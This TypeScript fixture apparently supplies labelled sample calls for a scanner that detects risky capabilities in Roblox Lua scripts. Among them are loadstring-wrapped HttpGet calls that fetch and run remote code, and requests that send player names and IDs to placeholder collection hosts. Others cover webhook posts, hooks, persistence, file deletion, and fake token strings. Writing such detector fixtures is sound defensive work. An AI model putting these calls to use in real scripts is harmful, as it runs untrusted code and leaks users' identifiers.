import type { CapabilityId } from '#contract/behavior-names.ts'

export interface Case {
  name: string
  capability: CapabilityId | 'none'
  evasion: string
  code: string
  /** All capabilities of the code. */
  labels: CapabilityId[]
}

/** An argument: a text that an evasion may encode, or code. */
export type Argument = { text: string } | { code: string }

/** One call that has a capability, in parts that an evasion can hide. */
export interface Sample {
  id: CapabilityId
  /** Other capabilities that the call has. */
  also?: CapabilityId[]
  /** Only executors have the function. */
  isExecutor?: true
  /** A Roblox service on which the function is a method; `game` for the root. Without it the function is a global. */
  service?: string
  /** Members between the service and the method, for example `LocalPlayer`. */
  path?: string[]
  /** Name of the function or method; dots for a function in a table. */
  name: string
  args: Argument[]
  /** Code around the call, which stands for `CALL`: an expression with one value. */
  around?: string
  before?: string
}

const text = (value: string): Argument => ({ text: value })
const code = (value: string): Argument => ({ code: value })

const WEBHOOK = `https://discord.com/api/webhooks/112233445566778899/${'QwErTyUiOpAsDfGh'.repeat(4)}`
const JSON_BODY = 'game:GetService("HttpService"):JSONEncode'

export const SAMPLES: Sample[] = [
  { id: 'net.get', service: 'game', name: 'HttpGet', args: [text('https://files.example.com/list.txt')] },
  { id: 'net.get', service: 'HttpService', name: 'GetAsync', args: [text('https://api.example.org/v1/status')] },
  {
    id: 'net.send',
    isExecutor: true,
    name: 'request',
    args: [code('{Url = TEXT, Method = "POST", Body = "ping"}'), text('https://api.example.com/ping')],
  },
  {
    id: 'net.send',
    service: 'HttpService',
    name: 'PostAsync',
    args: [text('https://log.example.net/in'), code('"a"')],
  },
  {
    id: 'net.webhook',
    also: ['net.send', 'shape.secret'],
    isExecutor: true,
    name: 'http_request',
    args: [code('{Url = TEXT, Method = "POST", Body = "hello"}'), text(WEBHOOK)],
  },
  {
    id: 'net.webhook',
    also: ['net.send'],
    service: 'HttpService',
    name: 'PostAsync',
    args: [text('https://webhook.site/0a1b2c3d-1111-2222-3333-444455556666'), code('"done"')],
  },
  {
    id: 'net.exfiltration',
    also: ['net.send'],
    isExecutor: true,
    name: 'request',
    args: [
      code(`{Url = TEXT, Method = "POST", Body = ${JSON_BODY}({who = game.Players.LocalPlayer.Name})}`),
      text('https://collect.example.com/join'),
    ],
  },
  {
    id: 'net.exfiltration',
    also: ['net.get'],
    service: 'game',
    name: 'HttpGet',
    args: [code('TEXT .. game:GetService("Players").LocalPlayer.UserId'), text('https://collect.example.com/?id=')],
  },
  { id: 'net.socket', isExecutor: true, name: 'WebSocket.connect', args: [text('wss://live.example.com/feed')] },
  { id: 'net.socket', isExecutor: true, name: 'syn.websocket.connect', args: [text('wss://live.example.com/feed')] },
  {
    id: 'code.remote',
    also: ['net.get'],
    service: 'game',
    name: 'HttpGet',
    args: [text('https://raw.example.com/hub/main.lua')],
    around: 'loadstring(CALL)()',
  },
  {
    id: 'code.remote',
    also: ['net.get'],
    isExecutor: true,
    name: 'request',
    args: [code('{Url = TEXT, Method = "GET"}'), text('https://raw.example.com/hub/main.lua')],
    around: 'local response = CALL\nassert(loadstring(response.Body))()',
  },
  {
    id: 'code.dynamic',
    also: ['fs.read'],
    isExecutor: true,
    name: 'readfile',
    args: [text('settings.lua')],
    around: 'loadstring(CALL)()',
  },
  {
    id: 'code.dynamic',
    name: 'loadstring',
    args: [code('script.Source.Value')],
    around: 'local chunk = CALL\nchunk()',
  },
  { id: 'code.asset', name: 'require', args: [code('4763921853')] },
  { id: 'code.asset', service: 'game', name: 'GetObjects', args: [text('rbxassetid://4763921853')] },
  { id: 'code.persist', isExecutor: true, name: 'queue_on_teleport', args: [text('print("again")')] },
  { id: 'code.persist', isExecutor: true, name: 'syn.queue_on_teleport', args: [text('print("again")')] },
  { id: 'fs.read', isExecutor: true, name: 'readfile', args: [text('config.json')] },
  { id: 'fs.read', isExecutor: true, name: 'listfiles', args: [text('scripts')] },
  { id: 'fs.write', isExecutor: true, name: 'writefile', args: [text('config.json'), code('"{}"')] },
  { id: 'fs.write', isExecutor: true, name: 'makefolder', args: [text('scripts')] },
  { id: 'fs.delete', isExecutor: true, name: 'delfile', args: [text('config.json')] },
  { id: 'fs.delete', isExecutor: true, name: 'delfolder', args: [text('scripts')] },
  { id: 'user.clipboard', isExecutor: true, name: 'setclipboard', args: [text('discord.gg/example')] },
  { id: 'user.clipboard', isExecutor: true, name: 'toclipboard', args: [text('discord.gg/example')] },
  { id: 'user.identity', isExecutor: true, name: 'gethwid', args: [] },
  { id: 'user.identity', service: 'RbxAnalyticsService', name: 'GetClientId', args: [] },
  { id: 'user.input', isExecutor: true, name: 'keypress', args: [code('0x57')] },
  {
    id: 'user.input',
    service: 'VirtualInputManager',
    name: 'SendKeyEvent',
    args: [code('true'), code('Enum.KeyCode.E'), code('false'), code('game')],
  },
  {
    id: 'user.purchase',
    service: 'MarketplaceService',
    name: 'PromptProductPurchase',
    args: [code('game.Players.LocalPlayer'), code('1234567')],
  },
  {
    id: 'user.purchase',
    service: 'MarketplaceService',
    name: 'PromptGamePassPurchase',
    args: [code('game.Players.LocalPlayer'), code('1234567')],
  },
  {
    id: 'user.key',
    also: ['net.get'],
    service: 'game',
    name: 'HttpGet',
    args: [text('https://api.platoboost.com/public/whitelist/42')],
  },
  {
    id: 'user.key',
    also: ['user.clipboard'],
    isExecutor: true,
    name: 'setclipboard',
    args: [text('https://linkvertise.com/12345/get-key')],
    before: 'local box = Instance.new("TextBox")\nbox.PlaceholderText = "Enter your key"',
  },
  {
    id: 'game.remote',
    service: 'ReplicatedStorage',
    path: ['Remotes', 'Attack'],
    name: 'FireServer',
    args: [text('all')],
  },
  {
    id: 'game.remote',
    service: 'ReplicatedStorage',
    path: ['GetData'],
    name: 'InvokeServer',
    args: [text('coins')],
  },
  { id: 'game.teleport', service: 'TeleportService', name: 'Teleport', args: [code('920587237')] },
  {
    id: 'game.teleport',
    service: 'TeleportService',
    name: 'TeleportToPlaceInstance',
    args: [code('920587237'), text('00000000-aaaa-bbbb-cccc-000000000000')],
  },
  {
    id: 'game.chat',
    also: ['game.remote'],
    service: 'ReplicatedStorage',
    path: ['DefaultChatSystemChatEvents', 'SayMessageRequest'],
    name: 'FireServer',
    args: [text('hello'), text('All')],
  },
  {
    id: 'game.chat',
    service: 'TextChatService',
    path: ['TextChannels', 'RBXGeneral'],
    name: 'SendAsync',
    args: [text('hello')],
  },
  { id: 'game.kick', service: 'Players', path: ['LocalPlayer'], name: 'Kick', args: [text('Rejoin')] },
  { id: 'game.kick', service: 'Players', path: ['LocalPlayer'], name: 'Kick', args: [] },
  {
    id: 'client.hook',
    isExecutor: true,
    name: 'hookmetamethod',
    args: [code('game'), text('__namecall'), code('function(...) return nil end')],
  },
  { id: 'client.hook', isExecutor: true, name: 'hookfunction', args: [code('print'), code('function() end')] },
  { id: 'client.inspect', isExecutor: true, name: 'getgc', args: [code('true')] },
  { id: 'client.inspect', isExecutor: true, name: 'getconnections', args: [code('workspace.ChildAdded')] },
  { id: 'needs.executor', isExecutor: true, name: 'gethui', args: [] },
  { id: 'needs.executor', isExecutor: true, name: 'fireclickdetector', args: [code('workspace.Button.ClickDetector')] },
]

/** Texts that are secrets, with nothing done to them but print. */
export const SECRETS: string[] = [WEBHOOK, `ghp_${'a1B2c3D4e5F6'.repeat(3)}`]
